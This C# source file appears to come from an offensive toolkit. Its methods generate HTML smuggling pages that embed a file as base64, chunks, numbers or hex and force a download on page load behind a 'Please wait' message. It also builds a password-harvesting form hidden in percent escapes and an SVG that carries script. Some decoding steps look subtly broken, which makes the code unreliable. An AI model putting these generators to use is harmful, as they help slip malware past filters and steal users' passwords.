using System.Text;

namespace Noroshi.Makers.Smuggling;

/// <summary>Pages that build a file in the browser.</summary>
public static class PageMaker
{
    /// <summary>A page that decodes base64 and saves it.</summary>
    public static byte[] Base64(string name, byte[] file) =>
        Page(
            $"var d=atob('{Convert.ToBase64String(file)}');var b=new Blob([d]);var a=document.createElement('a');a.href=URL.createObjectURL(b);a.download='{name}';a.click();"
        );

    /// <summary>A page that has the file in pieces.</summary>
    public static byte[] Pieces(string name, byte[] file) =>
        Page(
            $"var d=atob({string.Join("+", Convert.ToBase64String(file).Chunk(30).Select(part => $"\"{new string(part)}\""))});navigator.msSaveOrOpenBlob(new Blob([d]),\"{name}\");"
        );

    /// <summary>A page that has the file as numbers.</summary>
    public static byte[] Numbers(string name, byte[] file) =>
        Page($"var u=new Uint8Array([{string.Join(",", file)}]);saveAs(new Blob([u]),'{name}');");

    /// <summary>A page that has the file in hexadecimal.</summary>
    public static byte[] Hex(string name, byte[] file) =>
        Page(
            $"var h='{Convert.ToHexString(file)}';var u=Uint8Array.from(h.match(/../g));var f=new File([u],'{name}');window.location=URL.createObjectURL(f);"
        );

    /// <summary>A page with a link that is the file.</summary>
    public static byte[] DataLink(string name, byte[] file) =>
        Encoding.ASCII.GetBytes(
            $"<html><body><a href=\"data:application/zip;base64,{Convert.ToBase64String(file)}\" download=\"{name}\">open</a></body></html>"
        );

    /// <summary>A page whose form is hidden in percent escapes and asks for a password.</summary>
    public static byte[] HiddenForm(string action) =>
        Page(
            $"document.write(unescape('{string.Concat($"<form action=\"{action}\"><input type=\"password\" name=\"p\"></form>".Select(c => $"%{(int)c:X2}"))}'));"
        );

    /// <summary>An SVG picture with a script.</summary>
    public static byte[] Picture(string script) =>
        Encoding.ASCII.GetBytes($"<svg xmlns=\"http://www.w3.org/2000/svg\"><script>{script}</script><circle r=\"4\"/></svg>");

    private static byte[] Page(string script) =>
        Encoding.UTF8.GetBytes($"<html><body><p>Please wait</p><script>{script}</script></body></html>");
}
